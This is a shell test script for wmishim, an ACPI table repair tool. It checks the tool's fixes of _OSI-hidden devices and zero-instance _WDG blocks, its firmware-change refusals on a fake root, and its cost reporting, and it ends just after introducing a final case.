#!/bin/sh
# wmishim fix on the fixtures: what it repairs and what it leaves alone, the
# directory it writes (enable.conf, the SSDTs, README.md, fixed/), check on
# the fixed tables, enable of that directory on a fake root, and the
# refusals that write nothing.  Usage: fix.sh WMISHIM FAKEROOT FIXTURES
# [PLAIN] (PLAIN: the build without sanitizers, for firmware whose loops
# cost ASan's build minutes)
set -u
tool=$1
base=$2
fixtures=$3
plain=${4:-}
tmp=$(mktemp -d)
# shellcheck source=tests/lib.sh
. "$(dirname "$0")/lib.sh"
trap 'rm -rf "$tmp"' EXIT INT TERM

# fix FIXTURE DIR [ARGS...]: fix for Linux 7.3, its output in DIR.out and
# its exit status in DIR.rc.
fix() {
	f=$1
	d=$2
	shift 2
	rc=0
	"$tool" fix --kernel 7.3 "$@" "$fixtures/$f.aml" -o "$tmp/$d" >"$tmp/$d.out" 2>&1 || rc=$?
	echo "$rc" >"$tmp/$d.rc"
}

# The Eee PC: ASUS010 hidden by "Windows 2009", found and repaired alone.
fix eeepc-1201nl osi
desc="Eee PC: fix repairs the _OSI-hidden ASUS010 and exits 0"
t is 0 "$(cat "$tmp/osi.rc")"
desc="  it says so: repair OSI_HIDDEN_DEVICE, eeepc_laptop gains its device, 1 of 1 gone"
t lines "$tmp/osi.out" '^repair OSI_HIDDEN_DEVICE \\_SB_\.ATKD: .*"Windows 2009"' \
	'gains: eeepc_laptop gets its device' '^1 of 1 repaired finding gone'
desc="  enable.conf holds the one step: osi-fix \"Windows 2009\""
t lines "$tmp/osi/enable.conf" '^osi-fix "Windows 2009"$'

# The next: line is a command that runs: the kernel fix modelled, the
# inputs as given, each quoted for the shell (it said "try --with DIR
# INPUT...", and try then booted another kernel).
mkdir "$tmp/it's here"
cp "$fixtures/eeepc-1201nl.aml" "$tmp/it's here/my dsdt.aml"
"$tool" fix --kernel 6.12 "$tmp/it's here/my dsdt.aml" -o "$tmp/quoted" >"$tmp/quoted.out" 2>&1
next=$(sed -n 's/^next: //p' "$tmp/quoted.out")
desc="  its next: line names try --kernel 6.12 and the input, quoted for the shell"
t is "wmishim try --kernel 6.12 --with $tmp/quoted '$tmp/it'\\''s here/my dsdt.aml'; wmishim enable $tmp/quoted (as root)" "$next"
desc="  README.md says what changed, why, and what was left alone"
t lines "$tmp/osi/README.md" '^## Repaired' 'OSI_HIDDEN_DEVICE' 'What changed: every table that asks _OSI' \
	'^## Left alone' 'WDG_SAMPLE_GUID'
desc="  fixed/: the patched DSDT and the XOSI policy"
t is "00-dsdt-eee1201.aml 01-ssdt-xosipol.aml" "$(cd "$tmp/osi/fixed" && echo *)"
desc="  in the fixed tables ATKD is present under Linux's answers (_STA 0xF)"
t sh -c "'$tool' call --kernel 7.3 '$tmp/osi/fixed' --eval '\\_SB.ATKD._STA' | grep -q 'Integer 0xF'"
desc="  check on them: no OSI_HIDDEN_DEVICE"
t no sh -c "'$tool' check --kernel 7.3 '$tmp/osi/fixed' | grep -q OSI_HIDDEN_DEVICE"

# Zero instances and the _OSI bug on one DSDT: two repairs of one table.
fix eeepc-broken-zero zero
desc="broken-zero: WDG_ZERO_INSTANCES and OSI_HIDDEN_DEVICE repaired, exit 0"
t is 0 "$(cat "$tmp/zero.rc")"
desc="  the instance count 0 -> 1 in a clean _WDG, the firmware's renamed XWDG"
t lines "$tmp/zero.out" '^repair WDG_ZERO_INSTANCES \\_SB_\.AMW0 entry 0: entry 0.s instance count 0 -> 1' \
	'^2 of 2 repaired findings gone'
desc="  enable.conf: rename, add, osi-fix, in that order"
t is "rename \\_SB_.AMW0._WDG=XWDG|add ssdt-wdgfix1.aml|osi-fix \"Windows 2009\"" \
	"$(grep -v -e '^#' -e '^firmware ' "$tmp/zero/enable.conf" | paste -sd'|')"
real=$(cd "$tmp" && pwd -P)
desc="  README.md's commands name the directory by its real path and the kernel it was made for (before: THIS_DIR, and fixed as from inside it)"
t lines "$tmp/zero/README.md" "^wmishim check --kernel 7\\.3 $real/zero/fixed  " \
	"^wmishim try --kernel 7\\.3 --with $real/zero INPUT\\.\\.\\.  " "^sudo wmishim enable $real/zero  "
abs=$(cd "$(dirname "$tool")" && pwd)/$(basename "$tool")
args=$(sed -n 's|^wmishim check \(.*/fixed\) .*|\1|p' "$tmp/zero/README.md")
desc="  its check line runs from another directory"
t sh -c "cd / && '$abs' check $args | grep -q ': 0 errors,'"
desc="  the clean _WDG's SSDT is there, and check on fixed/ finds no error"
t sh -c "test -s '$tmp/zero/ssdt-wdgfix1.aml' &&
	'$tool' check --kernel 7.3 '$tmp/zero/fixed' | grep -q ': 0 errors,'"
desc="  fixed/'s _WDG says 1 instance for the management block (byte 18)"
t sh -c "'$tool' call --kernel 7.3 '$tmp/zero/fixed' --eval '\\_SB.AMW0._WDG' |
	grep -q 'Buffer (80) { 0xD0, 0x5E, 0x84, 0x97, 0x6D, 0x4E, 0xDE, 0x11, 0x8A, 0x39, 0x08, 0x00, 0x20, 0x0C, 0x9A, 0x66, 0x42, 0x43, 0x01, 0x02,'"

# enable DIR on a fake root whose firmware is broken-zero: the DSDT is
# renamed and patched for _OSI in one table (revision +2), the SSDTs beside.
rm -rf "$tmp/root"
cp -a "$base" "$tmp/root"
cp "$fixtures/eeepc-broken-zero.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="enable DIR (a fix directory, by its path) on the fake root"
t "$tool" enable --root "$tmp/root" "$tmp/zero"
desc="  the DSDT renamed and patched for _OSI is one table, OEM revision 0x1 -> 0x3"
t sh -c "'$tool' enable --root '$tmp/root' --dry-run '$tmp/zero' | grep -q 'DSDT WMISHM EEEZERO: overrides .*0x1 -> 0x3'"
desc="  status lists its three tables under the directory's name"
t sh -c "'$tool' status --root '$tmp/root' | grep -q '^enabled: zero: zero-ssdt-wdgfix1.aml zero-dsdt.aml zero-ssdt-xosi.aml'"
desc="  the enabled tables, on their own: no error finding"
t sh -c "'$tool' check --kernel 7.3 '$tmp/root/etc/wmishim/tables' | grep -q ': 0 errors,'"

# The fix's record of its firmware: the DSDT it was made from, by its IDs,
# revision and SHA-256 (sha256sum's); enable, status, the hook compare it
# with the machine's tables (before, enable loaded a fix made for other
# firmware and said "enabled").
sum=$(sha256sum "$fixtures/eeepc-broken-zero.aml" | cut -c1-64)
desc="enable.conf records the DSDT fix was made from: IDs, revision, sha256sum's SHA-256"
t lines "$tmp/zero/enable.conf" "^firmware DSDT WMISHM EEEZERO 0x1 $sum\$"
desc="  enable said it was compared"
t sh -c "'$tool' enable --root '$tmp/root' --dry-run '$tmp/zero' | grep -qx 'zero: made from this machine.s firmware as it is (1 table compared)'"
desc="  status: the firmware as when the fix was made, exit 0"
t sh -c "'$tool' status --root '$tmp/root' | grep -qx 'firmware: zero: as when the fix was made'"
# After the reboot the live DSDT is the fix's own (the kernel's override):
# the pristine copy stands for the firmware's.
cp "$tmp/root/etc/wmishim/tables/zero-dsdt.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="  the override loaded (the live DSDT the fix's): status --firmware still the same, exit 0"
t sh -c "'$tool' status --root '$tmp/root' --firmware | grep -qx 'firmware: zero: as when the fix was made'"
cp "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml" "$tmp/pristine.keep"
cp "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml"
desc="  the override loaded, its pristine copy not what the fix was made from: said of that copy, exit 1"
t sh -c "'$tool' status --root '$tmp/root' --firmware >'$tmp/ov.out'; [ \$? -eq 1 ] &&
	grep -qx 'firmware: zero: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: .*' '$tmp/ov.out'"
cp "$tmp/pristine.keep" "$tmp/root/var/lib/wmishim/pristine/DSDT0.aml"
# A firmware update: the DSDT of the same IDs, revision 2, its block's
# count now 2 and a new block.
cp "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/bios.before"
rc=0
"$tool" enable --root "$tmp/root" "$tmp/zero" >"$tmp/bios.out" 2>&1 || rc=$?
desc="after a firmware update (DSDT revision 0x2): enable refused, exit 1, the table and what differs named"
t sh -c "[ $rc -eq 1 ] && grep -qx 'wmishim: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out' &&
	tail -n 1 '$tmp/bios.out' | grep -qx 'wmishim: zero not enabled: nothing changed' && ! grep -q '^enabled' '$tmp/bios.out'"
rc=0
"$tool" enable --root "$tmp/root" --dry-run "$tmp/zero" >"$tmp/bios.out" 2>&1 || rc=$?
desc="  --dry-run refused the same, exit 1"
t sh -c "[ $rc -eq 1 ] && grep -q 'revision 0x1 when fixed, 0x2 now: the firmware changed' '$tmp/bios.out'"
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/bios.after"
desc="  nothing changed on disk"
t same "$tmp/bios.before" "$tmp/bios.after"
rc=0
"$tool" status --root "$tmp/root" >"$tmp/bios.status" 2>&1 || rc=$?
desc="  status: exit 1, the enabled fix's changed table said"
t sh -c "[ $rc -eq 1 ] && grep -qx 'firmware: zero: DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now: the firmware changed since the fix was made; run wmishim fix again, then wmishim enable' '$tmp/bios.status'"
desc="  doctor names it too"
t sh -c "'$tool' doctor --root '$tmp/root' | grep -q '^fix zero: firmware changed \[note\] DSDT WMISHM EEEZERO: revision 0x1 when fixed, 0x2 now'"
# The same revision, other bytes: the SHA-256 tells.
sh "$(dirname "$0")/poke-aml.sh" "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT" 24 02 01
now=$(sha256sum "$tmp/root/sys/firmware/acpi/tables/DSDT" | cut -c1-64)
desc="  the same revision, other bytes: refused, both SHA-256 named"
t sh -c "! '$tool' enable --root '$tmp/root' '$tmp/zero' >'$tmp/bios.out' 2>&1 &&
	grep -qx 'wmishim: DSDT WMISHM EEEZERO: revision 0x1 as when fixed, its bytes not (SHA-256 $sum when fixed, $now now): the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out'"
rm "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="  the table gone: refused, said"
t sh -c "! '$tool' enable --root '$tmp/root' '$tmp/zero' >'$tmp/bios.out' 2>&1 &&
	grep -qx 'wmishim: DSDT WMISHM EEEZERO: not among this machine.s tables now: the firmware changed since the fix was made; run wmishim fix again' '$tmp/bios.out'"
desc="disable takes the fix's record away with its tables"
t sh -c "test -f '$tmp/root/var/lib/wmishim/firmware/zero' && '$tool' disable --root '$tmp/root' zero >/dev/null &&
	test ! -e '$tmp/root/var/lib/wmishim/firmware/zero' && test ! -e '$tmp/root/var/lib/wmishim/enabled/zero'"
# A BIOS update between two fixes: the pristine copies of the old firmware
# went on standing for the new one, so enable of a fix made for the new
# firmware patched the old DSDT ("made from this machine's firmware as it
# is", status "as when the fix was made"), and the kernel would load it.
# The first fix adds an SSDT alone (a _WED), so the DSDT is the
# firmware's own when the second one comes.
rm -rf "$tmp/root" "$tmp/fixa" "$tmp/fixb"
cp -a "$base" "$tmp/root"
cp "$fixtures/eeepc-vm-wed-dsdt.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
fix eeepc-vm-wed-dsdt fixa --only NS_WED_MISSING
"$tool" enable --root "$tmp/root" "$tmp/fixa" >/dev/null 2>&1
cp "$fixtures/eeepc-zero-bios2.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
fix eeepc-zero-bios2 fixb
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/up.before"
rc=0
"$tool" enable --root "$tmp/root" "$tmp/fixb" >"$tmp/up.out" 2>&1 || rc=$?
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/up.after"
desc="a BIOS update with a fix enabled: a fix for the new firmware refused (the old copies), the table named, nothing changed"
t sh -c "[ $rc -ne 0 ] && grep -q 'this machine.s DSDT EEEZERO (OEM revision 0x2) is neither its copy taken when wmishim first enabled a fix' '$tmp/up.out' &&
	grep -qx 'wmishim: fixb not enabled: nothing changed' '$tmp/up.out' &&
	cmp -s '$tmp/up.before' '$tmp/up.after'"
"$tool" disable --root "$tmp/root" fixa >/dev/null 2>&1
desc="  the last fix disabled: the pristine copies go with it"
t sh -c "[ -z \"\$(ls '$tmp/root/var/lib/wmishim/pristine' 2>/dev/null)\" ]"
desc="  then the new firmware's fix enabled, its DSDT patched from the new one (OEM revision 0x2 -> 0x3)"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/fixb' >'$tmp/up2.out' 2>&1 &&
	[ \"\$(od -An -tx1 -j24 -N1 '$tmp/root/etc/wmishim/tables/fixb-dsdt.aml' | tr -d ' ')\" = 03 ]"

# A BIOS update the tables hide: the kernel loads an initrd table over the
# firmware's of the same IDs when its OEM revision is higher
# (acpi_table_initrd_override, drivers/acpi/tables.c), so new firmware of
# the same IDs and a revision not above the fix's still boots the fix's
# DSDT, and the live tables look as when the fix was enabled (before:
# status "as when the fix was made", enable went on).  enable keeps the
# BIOS's identity (sys/class/dmi/id) with its pristine copies.
rm -rf "$tmp/root"
cp -a "$base" "$tmp/root"
mkdir -p "$tmp/root/sys/class/dmi/id"
printf 'American Megatrends Inc.\n' >"$tmp/root/sys/class/dmi/id/bios_vendor"
printf '1201NL.0401\n' >"$tmp/root/sys/class/dmi/id/bios_version"
printf '03/11/2010\n' >"$tmp/root/sys/class/dmi/id/bios_date"
cp "$fixtures/eeepc-broken-zero.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
"$tool" enable --root "$tmp/root" "$tmp/zero" >/dev/null 2>&1
desc="enable keeps the BIOS it took its copies under, escaped as the table IDs are"
t sh -c "[ \"\$(cat '$tmp/root/var/lib/wmishim/bios')\" = 'bios American\\x20Megatrends\\x20Inc. 1201NL.0401 03\\x2F11\\x2F2010' ]"
cp "$tmp/root/etc/wmishim/tables/zero-dsdt.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
desc="  rebooted, the override loaded, the same BIOS: status --firmware as when the fix was made"
t sh -c "'$tool' status --root '$tmp/root' --firmware | grep -qx 'firmware: zero: as when the fix was made'"
printf '1201NL.0502\n' >"$tmp/root/sys/class/dmi/id/bios_version"
rc=0
"$tool" status --root "$tmp/root" --firmware >"$tmp/hid.out" 2>&1 || rc=$?
desc="  a BIOS update hidden by the override (the live DSDT still the fix's): status --firmware exit 1, both BIOSes named"
t sh -c "[ $rc -eq 1 ] && grep -q '^firmware: zero: the BIOS is not the one wmishim took its copies of the firmware under (\"American\\\\x20Megatrends\\\\x20Inc. 1201NL.0401 03\\\\x2F11\\\\x2F2010\" then, \"American\\\\x20Megatrends\\\\x20Inc. 1201NL.0502 03\\\\x2F11\\\\x2F2010\" now)' '$tmp/hid.out'"
desc="  doctor names it"
t sh -c "'$tool' doctor --root '$tmp/root' | grep -q '^fix zero: firmware changed \[note\] the BIOS is not the one'"
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/hid.before"
rc=0
"$tool" enable --root "$tmp/root" "$tmp/zero" >"$tmp/hid.en" 2>&1 || rc=$?
(cd "$tmp/root" && find . -type f | LC_ALL=C sort | xargs cksum) >"$tmp/hid.after"
desc="  enable (the same fix again) refused, the BIOS said before any table is compared, nothing changed"
t sh -c "[ $rc -ne 0 ] && grep -q 'the BIOS is not the one wmishim took its copies of the firmware under' '$tmp/hid.en' &&
	cmp -s '$tmp/hid.before' '$tmp/hid.after'"
"$tool" disable --root "$tmp/root" zero >/dev/null 2>&1
desc="  the last fix disabled: the BIOS record goes with the copies"
t sh -c "[ ! -e '$tmp/root/var/lib/wmishim/bios' ] && [ -z \"\$(ls '$tmp/root/var/lib/wmishim/pristine' 2>/dev/null)\" ]"

# A fix made from the DSDT alone, on a machine with an SSDT that asks _OSI:
# the osi-fix step would patch that SSDT, which fix never looked at (it was
# enabled, "made from this machine's firmware as it is").
rm -rf "$tmp/root" "$tmp/partial"
cp -a "$base" "$tmp/root"
cp "$fixtures/eeepc-1201nl.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
cp "$fixtures/osi-ssdt.aml" "$tmp/root/sys/firmware/acpi/tables/SSDT2"
fix eeepc-1201nl partial
rc=0
"$tool" enable --root "$tmp/root" "$tmp/partial" >"$tmp/partial.en" 2>&1 || rc=$?
desc="a fix made from part of the tables: enable refused where a step would patch a table it never saw, named"
t sh -c "[ $rc -ne 0 ] && grep -q 'partial: it would patch this machine.s SSDT OSISSDT1, which is not among the tables the fix was made from' '$tmp/partial.en' &&
	[ ! -e '$tmp/root/var/lib/wmishim/enabled/partial' ]"

# A fix made before the record: said, not refused.
rm -rf "$tmp/root" "$tmp/norec"
cp -a "$base" "$tmp/root"
cp "$fixtures/eeepc-broken-zero.aml" "$tmp/root/sys/firmware/acpi/tables/DSDT"
cp -a "$tmp/zero" "$tmp/norec"
grep -v '^firmware ' "$tmp/zero/enable.conf" >"$tmp/norec/enable.conf"
desc="a fix without a record (made before it): enabled, exit 0, said"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1 &&
	grep -qx 'norec: made without a record of its firmware: not compared with this machine.s' '$tmp/norec.out'"
desc="  status says so"
t sh -c "'$tool' status --root '$tmp/root' | grep -qx 'firmware: norec: made without a record of its firmware'"
printf 'firmware DSDT WMISHM EEEZERO 0x1 nothex\n' >>"$tmp/norec/enable.conf"
printf 'firmware DSDT %s %s 0x1 %s\n' "$(printf '%040d' 0)" "$(printf '%040d' 0)" "$sum" >"$tmp/longid"
cp "$tmp/norec/enable.conf" "$tmp/norec.conf.keep"
cat "$tmp/longid" >>"$tmp/norec/enable.conf"
desc="  a record line with IDs longer than any header holds: refused, exit 1, said (no overflow)"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1; [ \$? -eq 1 ] &&
	grep -q 'is not \"firmware SIGNATURE' '$tmp/norec.out' && ! grep -q Sanitizer '$tmp/norec.out'"
cp "$tmp/norec.conf.keep" "$tmp/norec/enable.conf"
desc="  a record line that is not one: refused, exit 1, said"
t sh -c "'$tool' enable --root '$tmp/root' '$tmp/norec' >'$tmp/norec.out' 2>&1; [ \$? -eq 1 ] &&
	grep -q 'enable.conf: \"firmware DSDT WMISHM EEEZERO 0x1 nothex\" is not \"firmware SIGNATURE' '$tmp/norec.out'"

# An OSYS ladder: "Windows 2009" and every later string, on 6.1 too; the
# set hides the touchpad (PNP0C50) Linux has: no trade without being asked.
rc=0
"$tool" fix --kernel 6.1 "$fixtures/check-osi-hidden.aml" -o "$tmp/ladder" >"$tmp/ladder.out" 2>&1 || rc=$?
desc="the OSYS ladder: the repair would hide TPD0 (i2c_hid_acpi): left alone, why said, exit 3"
t sh -c "[ $rc -eq 3 ] && [ ! -e '$tmp/ladder' ] &&
	grep -q '^leave  OSI_HIDDEN_DEVICE \\\\_SB_\\.ATKD: denying those strings hides \\\\_SB_\\.TPD0 (i2c_hid_acpi)' '$tmp/ladder.out'"
rc=0
"$tool" fix --kernel 6.1 --accept-loss "$fixtures/check-osi-hidden.aml" -o "$tmp/ladder2" >"$tmp/ladder2.out" 2>&1 || rc=$?
desc="  --accept-loss: both repaired, four strings denied"
t lines "$tmp/ladder2/enable.conf" '^osi-fix "Windows 2009" "Windows 2012" "Windows 2013" "Windows 2015"$'
desc="  the loss said (lost: TPD0, i2c_hid_acpi), exit 0 as asked, 2 of 2 gone"
t sh -c "[ $rc -eq 0 ] && grep -q '^lost: \\\\_SB_\\.TPD0 (PNP0C50, i2c_hid_acpi)' '$tmp/ladder2.out' &&
	grep -q '^2 of 2 repaired findings gone' '$tmp/ladder2.out'"

# The _OSI policy changes the answers it names, nothing else.  An EC query
# method that asks _OSI holding the EC's mutex (sync level 1) works under
# the fix: a Serialized XOSI (sync level 0) failed it, AE_AML_MUTEX_ORDER,
# and fix said "1 of 1 repaired finding gone".
fix fix-osi-mutex mutex
desc="_OSI asked under the EC's mutex: repaired, exit 0, no cost, nothing else changes"
t sh -c "[ \$(cat '$tmp/mutex.rc') -eq 0 ] && ! grep -q '^cost:' '$tmp/mutex.out' &&
	grep -q '^gain: device new: \\\\_SB_\\.ATKD: ASUS010, _STA 0x0 -> _STA 0xF' '$tmp/mutex.out' &&
	grep -q '^nothing else: every other device' '$tmp/mutex.out'"
desc="  the query method works in fixed/ (QRES 0xA, as without the fix)"
t sh -c "'$tool' call --kernel 7.3 '$tmp/mutex/fixed' --eval '\\_SB.EC0._Q4B' --then --eval '\\_SB.EC0.QRES' |
	grep -q 'Integer 0xA'"
# ACPICA's record of the newest Windows the firmware asked stays: XOSI
# answered a denied string 0 without asking the real _OSI, so "Windows
# 2015" was never recorded and acpi_osi_is_win8() turned false (the
# backlight choice of drivers/acpi/video_detect.c follows it).
desc="the ladder with --accept-loss: the _OSI record and acpi_osi_is_win8() as before; the one cost is TPD0"
t sh -c "! grep -q '_OSI record\\|kernel decision' '$tmp/ladder2.out' &&
	[ \$(grep -c '^cost:' '$tmp/ladder2.out') -eq 1 ] &&
	grep -q '^cost: device gone: \\\\_SB_\\.TPD0' '$tmp/ladder2.out'"

# A repair that costs the machine what no modules.alias names: the EC
# (its driver is built in) hidden, and an EC query method that fails.  fix
# said "1 of 1 repaired finding gone", exit 0, before.
fix fix-osi-cost cost
desc="the _OSI repair would hide the EC and break _Q4C: left alone with its cost, nothing written, exit 3"
t sh -c "[ \$(cat '$tmp/cost.rc') -eq 3 ] && [ ! -e '$tmp/cost' ] &&
	grep -q '^leave  OSI_HIDDEN_DEVICE \\\\_SB_\\.ATKD: the repair would cost \\\\_SB_\\.EC0_: PNP0C09, _STA 0xF -> _STA 0x0, and more' '$tmp/cost.out'"
fix fix-osi-cost cost2 --accept-loss
desc="  --accept-loss: written, exit 0, each cost said"
t sh -c "[ \$(cat '$tmp/cost2.rc') -eq 0 ] &&
	grep -q '^cost: device gone: \\\\_SB_\\.EC0_: PNP0C09, _STA 0xF -> _STA 0x0' '$tmp/cost2.out' &&
	grep -q '^cost: method fails: \\\\_SB_\\.EC0_\\._Q4C: worked, now never run (no such method, or its EC not there)' '$tmp/cost2.out'"
desc="  and its README.md lists the costs"
t lines "$tmp/cost2/README.md" '^## What else it changes' '^- cost \(device gone\): `\\_SB_\.EC0_' \
	'^- cost \(method fails\): `\\_SB_\.EC0_\._Q4C'

# A repair that loses a key's event and the kernel's Windows 8 decision:
# the record read once the devices are scanned, before any key press (a
# query asking _OSI again hid the change), and the Notifies each EC query
# raises compared (neither was: fix said "nothing else").
fix fix-osi-event event --accept-loss
desc="the _OSI repair loses _Q0A's WMI event and acpi_osi_is_win8(): each a cost, said"
t sh -c "[ \$(cat '$tmp/event.rc') -eq 0 ] &&
	grep -q '^cost: method notifies: \\\\_SB_\\.EC0_\\._Q0A: Notify \\\\_SB_\\.WMI1 0xD0 -> none' '$tmp/event.out' &&
	grep -q '^cost: _OSI record: the newest Windows the firmware asked: \"Windows 2012\" -> \"Windows 2009\"' '$tmp/event.out' &&
	grep -q '^cost: kernel decision: acpi_osi_is_win8(): true -> false' '$tmp/event.out'"
fix fix-osi-event event2
desc="  without --accept-loss: left alone, nothing written, exit 3"
t sh -c "[ \$(cat '$tmp/event2.rc') -eq 3 ] && [ ! -e '$tmp/event2' ]"
# A device whose ID the repair changes (another driver would bind it), and a
# failing _INI that moves to another device (its KBON no longer set): costs
# (fix said "nothing else").
fix fix-osi-id id --accept-loss
desc="a device's ID changed and a failing _INI moved: each a cost, said"
t sh -c "grep -q '^cost: device ID: \\\\_SB_\\.TPD0: ELAN0001 -> ELAN0000' '$tmp/id.out' &&
	grep -q '^cost: load error: ACPI Error: Aborting method \\\\_SB\\.TP02\\._INI' '$tmp/id.out'"
# What is no cost: an EC that is not there (Linux never runs its queries),
# and the firmware's own Debug text holding "ACPI Error" (fix left the
# repair alone for each).
fix fix-osi-noise noise
desc="an absent EC's query and the firmware's Debug text: no cost, repaired, exit 0"
t sh -c "[ \$(cat '$tmp/noise.rc') -eq 0 ] && ! grep -q '^cost:' '$tmp/noise.out' &&
	grep -q '^nothing else: every other device' '$tmp/noise.out'"

# A _WDG that is a method, built from a board strap: a clean copy would
# freeze the emulated machine's answer and lose the third block of the
# boards whose strap reads 1 (fix wrote the copy, exit 0, before).
fix fix-wdg-method wdgm
desc="a _WDG that is a method: its zero-instance block left alone, said, nothing written, exit 3"
t sh -c "[ \$(cat '$tmp/wdgm.rc') -eq 3 ] && [ ! -e '$tmp/wdgm' ] &&
	grep -q '^leave  WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0: its _WDG is a method' '$tmp/wdgm.out'"

# A thermal zone (and the fan in it) the repair hides: Linux's scan makes
# devices of thermal zones too (fix read Device objects alone: "nothing
# else").
fix fix-osi-thermal tz --accept-loss
desc="a thermal zone and its fan hidden by the repair: costs, said"
t sh -c "grep -q '^cost: device gone: \\\\_TZ_\\.TZ00: _STA 0xF -> _STA 0x0' '$tmp/tz.out' &&
	grep -q '^cost: device gone: \\\\_TZ_\\.TZ00\\.FAN0: PNP0C0B, _STA 0xF -> _STA 0xF under a device that is not there' '$tmp/tz.out'"

# Two tables define one _WDG, the first with a zero-instance block:
# renaming it would let the second table's _WDG load in its place, and the
# device's blocks change beyond "instances 0 -> 1" (fix wrote it, exit 0).
rc=0
"$tool" fix --kernel 7.3 "$fixtures/fix-wdg-swap.aml" "$fixtures/check-wdg-redefined-b.aml" \
	-o "$tmp/swap" >"$tmp/swap.out" 2>&1 || rc=$?
desc="a _WDG that another table's would replace: the repair left alone with its cost, nothing written, exit 3"
t sh -c "[ $rc -eq 3 ] && [ ! -e '$tmp/swap' ] &&
	grep -q '^leave  WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0: the repair would cost \\\\_SB_\\.WMI1: 86CCFD48-205E-4A77-9C48-2021CBEDE341' '$tmp/swap.out'"

# A device with an XWDG of its own (a copy of its _WDG, as Dell firmware
# keeps): the firmware's _WDG renamed to a free name, XWD0 (exit 2 before:
# its rename target existed).
fix fix-wdg-xwdg xwdg
desc="an XWDG there already: the _WDG renamed XWD0, said, exit 0"
t sh -c "[ \$(cat '$tmp/xwdg.rc') -eq 0 ] &&
	grep -q '^repair WDG_ZERO_INSTANCES .*(renamed XWD0)' '$tmp/xwdg.out' &&
	grep -q '^rename \\\\_SB_\\.WMI1\\._WDG=XWD0$' '$tmp/xwdg/enable.conf'"
rm -rf "$tmp/xroot"
cp -a "$base" "$tmp/xroot"
cp "$fixtures/fix-wdg-xwdg.aml" "$tmp/xroot/sys/firmware/acpi/tables/SSDT1"
desc="  enable --dry-run takes it on a root with that firmware"
t sh -c "'$tool' enable --root '$tmp/xroot' --dry-run '$tmp/xwdg' >'$tmp/xwdg.enable' 2>&1"

# A device whose name holds a byte no ACPI name has (WMXD's X poked to
# 0x01): ACPICA repairs it, to "WM*D" in 6.1's ACPICA and "WM_D" in 7.3's
# (acpi_ut_repair_name, utstring.c).  The clean _WDG's Scope holds the
# firmware's bytes, which each release repairs on lookup as it repaired the
# name; it held the linked ACPICA's "WM_D", which 6.1 does not resolve
# (a boot of Debian's 6.1 said "Could not resolve symbol [\_SB.WM_D],
# AE_NOT_FOUND", and the block got no device).
off=$(od -An -v -tu1 -w1 "$fixtures/fix-bad-name.aml" |
	awk '{ b[NR - 1] = $1 } END { for (i = 0; i + 3 < NR; i++) if (b[i] == 87 && b[i + 1] == 77 && b[i + 2] == 88 && b[i + 3] == 68) { print i + 2; exit } }')
sh "$(dirname "$0")/poke-aml.sh" "$fixtures/fix-bad-name.aml" "$tmp/bad-name.aml" "$off" 58 01
rc=0
"$tool" fix --kernel 6.1 "$tmp/bad-name.aml" -o "$tmp/badname" >"$tmp/badname.out" 2>&1 || rc=$?
desc="a device name ACPICA repairs: fixed for 6.1, exit 0, its repaired block gone"
t sh -c "[ $rc -eq 0 ] && grep -q '^repair WDG_ZERO_INSTANCES \\\\_SB_\\.WM_D entry 0' '$tmp/badname.out' &&
	grep -qx '1 of 1 repaired finding gone' '$tmp/badname.out'"
desc="  the clean _WDG's Scope holds the firmware's bytes (\\_SB_ WM 0x01 D), not the linked ACPICA's repair"
t sh -c "od -An -v -tx1 '$tmp/badname/ssdt-wdgfix1.aml' | tr -d '\n' | grep -q '5f 53 42 5f 57 4d 01 44 08 5f 57 44 47' &&
	! od -An -v -tx1 '$tmp/badname/ssdt-wdgfix1.aml' | tr -d '\n' | grep -q '57 4d 5f 44'"

# ACPICA's load errors compared as what they say, not their numbers: a
# table that fails to load says "1 table load failures, N successful", N
# one more with the fix's SSDT, and a node's address differs from load to
# load.  The repair was left alone for that "new load error" before.
rc=0
"$tool" fix --kernel 7.3 "$fixtures/check-table-load.aml" "$fixtures/fix-wdg-xwdg.aml" \
	-o "$tmp/loaderr" >"$tmp/loaderr.out" 2>&1 || rc=$?
desc="a table that fails to load beside the repair: the load's errors as before, repaired, exit 0"
t sh -c "[ $rc -eq 0 ] && ! grep -q '^cost:' '$tmp/loaderr.out' &&
	grep -q '^repair WDG_ZERO_INSTANCES \\\\_SB_\\.WMI1 entry 0.*(renamed XWD0)' '$tmp/loaderr.out'"

# Two SSDTs of one signature and OEM IDs (HP's several "SSDT HPQOEM
# 815D"), the second with the zero-instance block.  The kernel takes an
# initrd table in place of the first firmware table of its IDs it installs
# (acpi_table_initrd_override(), drivers/acpi/tables.c, 6.1 and 7.3): a
# patched copy of the second would replace the first (its devices lost,
# the second's defined twice).  fix said "repaired", exit 0, before.
rc=0
